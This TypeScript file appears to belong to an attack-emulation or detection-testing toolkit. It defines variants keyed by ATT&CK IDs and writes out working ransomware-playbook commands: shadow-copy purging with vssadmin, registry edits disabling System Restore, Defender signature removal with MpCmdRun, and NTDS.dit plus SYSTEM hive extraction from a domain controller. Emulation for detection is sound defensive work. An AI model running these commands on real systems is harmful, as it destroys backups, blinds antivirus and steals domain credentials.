import { IMPACKET_OUT, remoteLogon, v } from "../dsl";
import type { Variant } from "../types";

const SR_POLICY = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore";
const SR = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SystemRestore";

/**
 * Extra variants (see ../extras.ts) for heavily detected techniques, covering ransomware-playbook steps
 * the rows lacked: the shadow storage shrunk to purge copies, System Restore disabled by policy, Defender's
 * signatures removed with MpCmdRun, NTDS.dit pulled through a diskshadow-exposed snapshot, and AD computer
 * inventory with Get-ADComputer.
 */
export const extrasN: Readonly<Record<string, readonly Variant[]>> = {
  // Conti / LockBit playbooks: shrinking the shadow storage makes VSS discard every copy, then it is
  // reset to unbounded so nothing looks broken.
  T1490: [
    v(
      "vssadmin-resize",
      [
        "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB",
        "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=unbounded",
      ],
      { elevated: true },
    ),
    // Atomic T1490: System Restore turned off by policy and in its own key.
    v(
      "disable-systemrestore-reg",
      [
        {
          cmd: `reg add "${SR_POLICY}" /v DisableConfig /t REG_DWORD /d 1 /f`,
          reg: [[SR_POLICY, "DisableConfig", "1", "REG_DWORD"]],
        },
        {
          cmd: `reg add "${SR_POLICY}" /v DisableSR /t REG_DWORD /d 1 /f`,
          reg: [[SR_POLICY, "DisableSR", "1", "REG_DWORD"]],
        },
        {
          cmd: `reg add "${SR}" /v DisableSR /t REG_DWORD /d 1 /f`,
          reg: [[SR, "DisableSR", "1", "REG_DWORD"]],
        },
      ],
      { elevated: true },
    ),
  ],
  // Atomic T1562.001: Defender's own CLI removes all loaded signatures (still "enabled", detects nothing).
  "T1562.001": [
    v(
      "mpcmdrun-remove-definitions",
      ['"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All'],
      { elevated: true },
    ),
  ],
  // diskshadow in script mode on a DC through wmiexec (as the row's ntdsutil variant): the script uploaded to
  // ADMIN$, a persistent snapshot exposed as Z:, NTDS.dit copied with robocopy's backup semantics, then the
  // SYSTEM hive for the boot key.
  "T1003.003": [
    v(
      "diskshadow-robocopy",
      [
        {
          by: "@system",
          host: "@dc",
          files: ["C:\\Windows\\Temp\\{{rand}}.txt"],
          then: [
            ...remoteLogon("wmix", "Kerberos").map((a) => ({ ...a, host: "@dc" })),
            {
              id: "put",
              kind: "share.access",
              host: "@dc",
              session: "wmix",
              share: "ADMIN$",
              relativeTarget: "Temp\\{{rand}}.txt",
              accessMask: "0x2",
            },
          ],
        },
        ...[
          "diskshadow.exe /s C:\\Windows\\Temp\\{{rand}}.txt",
          "robocopy.exe /b Z:\\Windows\\NTDS C:\\Windows\\Temp\\{{rand2}} ntds.dit",
          "reg.exe save HKLM\\SYSTEM C:\\Windows\\Temp\\{{rand2}}\\system.hiv",
        ].flatMap((line, k) => [
          {
            cmd: `cmd.exe /Q /c ${line} ${IMPACKET_OUT}`,
            as: `c${k}`,
            host: "@dc",
            parent: "@wmiprvse",
            user: "@admin",
          },
          {
            cmd: line,
            host: "@dc",
            parent: `c${k}`,
            user: "@admin",
            ...(k === 0 ? { reads: ["C:\\Windows\\Temp\\{{rand}}.txt"] } : {}),
            ...(k === 1 ? { files: ["C:\\Windows\\Temp\\{{rand2}}\\ntds.dit"] } : {}),
            ...(k === 2 ? { files: ["C:\\Windows\\Temp\\{{rand2}}\\system.hiv"] } : {}),
          },
        ]),
      ],
      { shell: "none", needs: ["domain admin on a domain controller"] },
    ),
  ],
  // The AD module's computer inventory (ransomware operators' target list before deployment).
  T1018: [
    v(
      "get-adcomputer",
      [
        {
          ps: "Get-ADComputer -Filter * -Properties Name,OperatingSystem,IPv4Address,LastLogonDate | Select-Object Name,OperatingSystem,IPv4Address | Export-Csv -NoTypeInformation $env:PUBLIC\\{{rand}}.csv",
          net: [["@dc", 9389]],
          files: ["C:\\Users\\Public\\{{rand}}.csv"],
        },
      ],
      { shell: "ps" },
    ),
  ],
};
